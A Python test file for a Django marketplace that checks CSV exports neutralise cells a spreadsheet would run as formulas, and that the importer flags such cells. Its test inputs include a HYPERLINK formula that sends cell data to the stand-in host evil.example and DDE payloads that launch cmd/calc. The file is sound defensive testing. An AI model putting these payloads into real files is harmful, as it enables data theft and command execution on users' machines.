"""CSV formula injection: text that a spreadsheet would run as a formula is written with a quote in front and in
double quotes, on both writers of the public CSV; the importer lists such cells, refuses nothing for them, and reads
our own neutralised cells back as the text they stand for."""

import csv
import io

import pytest
from django.db import connection
from hypothesis import given, settings
from hypothesis import strategies as st

from marketplace.opendata.export_csv import iter_opportunity_csv, opportunity_csv
from marketplace.opendata.importer import import_dm_csv
from marketplace.opportunities.models import Opportunity
from marketplace.spreadsheet_cells import CsvWriter, as_read, neutralised, neutralised_sql, would_be_formula

from .conftest import OUTCOMES, awarded_row, historic_row, read_csv, write_csv
from .test_commands import run
from .test_export_copy import copied, postgresql_only

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("text", [
    "=1+1", HYPERLINK, "+44 20 7946 0000", "-2+3", "-1-1", "@SUM(A1:A9)", "\tcmd", "\r=1", "-", "+", "=",
    "-5 days", "-1e5",
])
def test_text_a_spreadsheet_would_run_gets_a_quote_in_front(text):
    assert would_be_formula(text)
    assert neutralised(text) == "'" + text
    assert as_read(neutralised(text)) == text


@pytest.mark.parametrize("text", [
    "-5", "-12.50", "+3", "0.07", "6.0", "2016-07-13", "", "Discovery", " =1", "'=1", "'-2+3", "1-2", "£-5",
])
def test_plain_numbers_dates_and_text_are_left_alone(text):
    """A negative amount stays a number a spreadsheet can add up; an ISO date starts with a digit."""
    assert neutralised(text) == text


def test_a_neutralised_cell_is_quoted_and_an_ordinary_one_is_written_as_before():
    out = io.StringIO()
    CsvWriter(out, lineterminator="\n").writerow(["=1+1", "-5", "plain", 'a "b", c', "'@x"])
    line = out.getvalue()
    assert line == '"\'=1+1",-5,plain,"a ""b"", c","\'@x"\n'
    assert next(csv.reader(io.StringIO(line, newline=""))) == ["'=1+1", "-5", "plain", 'a "b", c', "'@x"]


@postgresql_only
@pytest.mark.django_db
@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(alphabet=st.sampled_from("=+-@\t\r'0123456789.eE a\n"), max_size=8),
                 st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12)))
def test_postgresql_neutralises_exactly_as_python_does(text):
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {neutralised_sql('t.v')} FROM (SELECT %s::text AS v) AS t", [text])
        assert cursor.fetchone()[0] == neutralised(text)


@pytest.fixture
def formulas_everywhere(live, close, buyer, tmp_path):
    """A native opportunity and historic rows whose text begins like a formula, beside ordinary ones."""
    native = live(OUTCOMES, title=HYPERLINK, location="London")
    close(native)
    report = import_dm_csv(write_csv(tmp_path / "file.csv", [
        historic_row(900001, Opportunity="@SUM(1+1)*cmd|' /C calc'!A0"),
        awarded_row(900002, supplier="+Plus Digital Ltd", **{"Expected Contract Length": "-3 months"}),
        historic_row(900003),
    ]))
    assert (report.problems, report.created) == ([], 3)
    return native


@pytest.mark.django_db
def test_the_public_csv_never_hands_a_spreadsheet_a_formula(formulas_everywhere):
    text = "".join(opportunity_csv())

    rows = {row["ID"]: row for row in read_csv(text)}
    assert rows[str(formulas_everywhere.pk)]["Opportunity"] == "'" + HYPERLINK
    assert rows["900001"]["Opportunity"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["900002"]["Winning supplier"] == "'+Plus Digital Ltd"
    assert rows["900002"]["Expected Contract Length"] == "'-3 months"
    assert rows["900003"]["Opportunity"] == "Discovery for service 900003"
    assert '"\'@SUM(1+1)*cmd|\' /C calc\'!A0"' in text and ',Discovery for service 900003,' in text
    assert not [cell for row in rows.values() for cell in row.values() if would_be_formula(cell)]


@postgresql_only
@pytest.mark.django_db
def test_postgresql_writes_neutralised_cells_exactly_as_the_python_writer_does(formulas_everywhere):
    text, written = copied()

    assert text.encode() == "".join(iter_opportunity_csv()).encode()
    assert written == 4


@pytest.mark.django_db
def test_what_we_export_imports_back_as_the_same_text(formulas_everywhere, tmp_path):
    exported = tmp_path / "export.csv"
    exported.write_text("".join(opportunity_csv()), encoding="utf-8")
    historic = ["900001", "900002", "900003"]
    rows = [row for row in read_csv(exported.read_text(encoding="utf-8")) if row["ID"] in historic]
    again = write_csv(tmp_path / "again.csv", rows, header=list(rows[0]))

    report = import_dm_csv(again)

    assert (report.problems, report.formulas, report.created) == ([], [], 0)
    assert Opportunity.objects.get(pk=900001).title == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert "".join(opportunity_csv()) == exported.read_text(encoding="utf-8")


@pytest.mark.django_db
def test_the_import_lists_each_formula_cell_and_still_imports_its_row(tmp_path):
    path = write_csv(tmp_path / "file.csv", [
        historic_row(1),
        historic_row(2, Opportunity="=cmd|' /C calc'!A0", **{"Organisation Name": "@Home Office"}),
        awarded_row(3, amount="125000.0", supplier="-Minus Ltd"),
    ])

    out, _ = run("import", "dm-csv", str(path), "--dry-run")
    assert out.splitlines() == [
        "Line 3: Opportunity would be a formula in a spreadsheet; it is kept as text, and written with a quote in "
        "front when exported",
        "Line 3: Organisation Name would be a formula in a spreadsheet; it is kept as text, and written with a "
        "quote in front when exported",
        "Line 4: Winning supplier would be a formula in a spreadsheet; it is kept as text, and written with a quote "
        "in front when exported",
        "Would import 3 row(s): 3 new, 0 updated, 0 unchanged, 0 left out until their buyer is mapped. 3 cell(s) "
        "would be formulas in a spreadsheet (listed above), kept as text.",
    ]
    assert not Opportunity.objects.exists()

    out, _ = run("import", "dm-csv", str(path))
    assert out.splitlines()[-1].startswith("Imported 3 row(s): 3 new") and "3 cell(s) would be formulas" in out
    assert Opportunity.objects.get(pk=2).title == "=cmd|' /C calc'!A0"
    assert Opportunity.objects.get(pk=3).applications.get().supplier.name == "-Minus Ltd"


@pytest.mark.django_db
def test_a_formula_cell_does_not_hide_the_rows_real_problems(tmp_path):
    path = write_csv(tmp_path / "file.csv", [historic_row(1, Opportunity="=1+1", Status="open")])

    report = import_dm_csv(path)

    assert [str(problem) for problem in report.problems] == [
        "Line 2: Status 'open' must be one of closed, awarded, cancelled, unsuccessful"]
    assert [(cell.line, cell.column) for cell in report.formulas] == [(2, "Opportunity")]
    assert report.summary().startswith("Nothing imported: 1 problem(s) in 1 row(s). 1 cell(s) would be formulas")
    assert not Opportunity.objects.exists()
